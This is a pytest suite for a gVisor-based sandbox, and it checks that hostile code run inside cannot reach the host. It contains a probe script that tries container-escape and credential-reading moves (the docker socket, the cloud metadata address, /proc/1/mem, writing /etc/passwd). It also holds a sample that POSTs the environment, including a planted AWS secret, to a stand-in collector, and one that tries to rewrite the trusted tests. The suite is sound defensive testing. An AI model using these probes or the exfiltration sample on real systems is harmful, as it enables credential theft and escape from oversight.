"""What hostile code can see and reach from inside: nothing of the host, and every attempt at the network is named."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

import pytest

from evoguard_sandbox import Job, JobReport, Limits, Room, Suite, execute, run

pytestmark = pytest.mark.needs_gvisor
REPO = Path(__file__).parents[2]
SECRET = "planted-secret-5b1f"
LIMITS = Limits(wall_s=30)
PROBE = """
import json, os, socket, sys
def attempt(do):
    try: return str(do())
    except BaseException as err: return type(err).__name__
def read(path): return open(path, errors="replace").read()
def write(path): return os.close(os.open(path, os.O_WRONLY | os.O_CREAT)) or "written"
def listdir(path): return " ".join(sorted(os.listdir(path)))
def connect(where):
    family = socket.AF_UNIX if isinstance(where, str) else socket.AF_INET
    with socket.socket(family) as s:
        s.settimeout(2)
        s.connect(where)
        return "connected"
secret_file, workdir, listener, abstract = json.loads(sys.argv[1])
print(json.dumps({
    "env": str(dict(os.environ)),
    "environ": attempt(lambda: read("/proc/self/environ")),
    "environ of 1": attempt(lambda: read("/proc/1/environ")),
    "memory of 1": attempt(lambda: open("/proc/1/mem", "rb")),
    "read 0 of 1": attempt(lambda: open("/proc/1/fd/0", "rb")),
    "write 1 of 1": attempt(lambda: open("/proc/1/fd/1", "wb")),
    "write 2 of 1": attempt(lambda: open("/proc/1/fd/2", "wb")),
    "descriptors": attempt(lambda: listdir("/proc/self/fd")),
    "mounts": attempt(lambda: read("/proc/self/mountinfo")),
    "secret file": attempt(lambda: read(secret_file)),
    "secret through 1": attempt(lambda: read("/proc/1/root" + secret_file)),
    "working folder": attempt(lambda: listdir(workdir)),
    "root folder": attempt(lambda: listdir("/root")),
    "docker": attempt(lambda: connect("/var/run/docker.sock")),
    "abstract": attempt(lambda: connect("\\0" + abstract)),
    "host port": attempt(lambda: connect(("127.0.0.1", listener))),
    "metadata": attempt(lambda: connect(("169.254.169.254", 80))),
    "write /usr": attempt(lambda: write("/usr/lib/x")),
    "write layer": attempt(lambda: write("/opt/layer/pytest/__init__.py")),
    "write guest": attempt(lambda: write("/opt/guest/runner.py")),
    "write python": attempt(lambda: write("/opt/python/lib/x")),
    "write etc": attempt(lambda: write("/etc/passwd")),
    "kill 1": attempt(lambda: os.kill(1, 9)),
    "become root": attempt(lambda: os.setuid(0)),
    "chroot": attempt(lambda: os.chroot("/tmp")),
    "raw socket": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)),
    "packet socket": attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)),
    "status": read("/proc/self/status"),
    "uid": os.getresuid(),
    "groups": os.getgroups(),
    "hostname": socket.gethostname(),
    "processes": [p for p in os.listdir("/proc") if p.isdigit()],
}))
"""
DENIED = {
    "memory of 1",
    "read 0 of 1",
    "write 1 of 1",
    "write 2 of 1",
    "secret file",
    "secret through 1",
    "working folder",
    "root folder",
    "docker",
    "abstract",
    "host port",
    "metadata",
    "write /usr",
    "write layer",
    "write guest",
    "write python",
    "write etc",
    "kill 1",
    "become root",
    "chroot",
    "raw socket",
    "packet socket",
}


@pytest.fixture
def planted(monkeypatch):
    monkeypatch.setenv("EVOGUARD_PLANTED", SECRET)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)


async def probe(room: Room, folder: Path) -> JobReport:
    """Run every probe in one sandbox, beside a host that has something to find."""
    server = await asyncio.start_server(lambda *_: None, "127.0.0.1", 0)
    hidden = await asyncio.start_unix_server(lambda *_: None, "\0" + SECRET)
    try:
        port = server.sockets[0].getsockname()[1]
        told = json.dumps([str(folder / "secret"), str(folder), port, SECRET])
        return await execute(Job(("python", "-I", "-c", PROBE, told)), limits=LIMITS, room=room)
    finally:
        server.close()
        hidden.close()


@pytest.fixture(scope="module")
def seen(room: Room, tmp_path_factory: pytest.TempPathFactory) -> JobReport:
    folder = tmp_path_factory.mktemp("host")
    (folder / "secret").write_text(SECRET)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("EVOGUARD_PLANTED", SECRET)
        return asyncio.run(probe(room, folder))


@pytest.fixture(scope="module")
def told(seen):
    assert (seen.outcome, seen.exit_status) == ("finished", 0), seen.stderr
    return json.loads(seen.stdout)


@pytest.mark.parametrize("probe", sorted(DENIED))
def test_a_way_out_is_shut(told, probe):
    assert told[probe].endswith(("Error", "timeout")), told[probe]


def test_the_environment_holds_nothing_of_the_host(told):
    for place in ("env", "environ", "environ of 1"):
        assert SECRET not in told[place]
        assert str(Path.home()) not in told[place]
    assert "PYTHONHASHSEED" in told["env"]


def test_mounts_name_no_path_of_the_host(told, room):
    for path in (room.home, room.layer, REPO, Path.home()):
        assert f"{path}/" not in told["mounts"]
        assert f"{path} " not in told["mounts"]


def test_the_command_has_no_rights_and_no_company(told):
    rights = dict(line.split(":\t") for line in told["status"].splitlines() if line.startswith(("Cap", "NoNewPrivs")))
    assert {rights[name] for name in ("CapEff", "CapPrm", "CapInh")} == {"0" * 16}
    assert rights.get("NoNewPrivs", "1") == "1"
    assert told["uid"] == [65534] * 3
    assert told["groups"] == []
    assert told["hostname"].startswith("box-")
    assert len(told["processes"]) == 2
    assert set(told["descriptors"].split()) <= {"0", "1", "2", "3"}


def test_attempts_at_the_network_are_recorded_outside_and_named(seen):
    assert seen.behaviour.status == "recorded"
    assert [f.term for f in seen.findings if f.code == "sandbox.network_attempt"] == ["169.254.169.254:80"]
    assert "/var/run/docker.sock" in {c.address for c in seen.behaviour.connects if c.family == "unix"}


LOOKS = """
import os
from calc import one
def test_one():
    assert one() == 1
    assert "SECRET" not in str(os.environ)
"""
LEAK = """
import json, os, socket, urllib.request
def send(where):
    try: urllib.request.urlopen(where, json.dumps(dict(os.environ)).encode(), timeout=3)
    except OSError: pass
send("http://203.0.113.9:8443/collect")
send("http://collector.example/")
def one(): return 1
"""


async def test_a_program_that_posts_its_environment_sends_nothing_and_is_named(room, planted):
    tests = LOOKS.replace("SECRET", SECRET).encode()
    base = {"calc.py": (0o100644, b"def one(): return 1\n"), "test_calc.py": (0o100644, tests)}
    report = await run(Suite(base, {**base, "calc.py": (0o100644, LEAK.encode())}), limits=LIMITS, room=room)
    assert not report.passed
    assert report.counts == {"passed": 1}
    told = [f.msg for f in report.findings if f.code == "sandbox.network_attempt"]
    assert any("203.0.113.9:8443" in msg and "denied: no network" in msg for msg in told)
    assert any("host name" in msg for msg in told)


TAMPER = """
import os, pathlib
def attempt(do):
    try: do()
    except OSError: return
    raise SystemExit("a trusted file gave way")
here = pathlib.Path(__file__).parent
if (here / "test_calc.py").exists():  # apart from the code there are no tests beside it
    attempt(lambda: (here / "test_calc.py").write_text(""))
    attempt(lambda: (here / "test_calc.py").unlink())
    attempt(lambda: os.rename(here / "test_calc.py", here / "x"))
    attempt(lambda: os.rename(here / "tests", here / "x"))
    attempt(lambda: (here / "test_calc.py").chmod(0o777))
def one(): return 1
"""


async def test_trusted_tests_cannot_be_rewritten_from_inside(room):
    tests = b"from calc import one\ndef test_one():\n    assert one() == 1\n"
    more = {"tests/test_more.py": (0o100644, tests), "calc.py": (0o100644, b"def one(): return 1\n")}
    base = {**more, "test_calc.py": (0o100644, tests)}
    report = await run(Suite(base, {**base, "calc.py": (0o100644, TAMPER.encode())}), limits=LIMITS, room=room)
    assert report.findings == ()
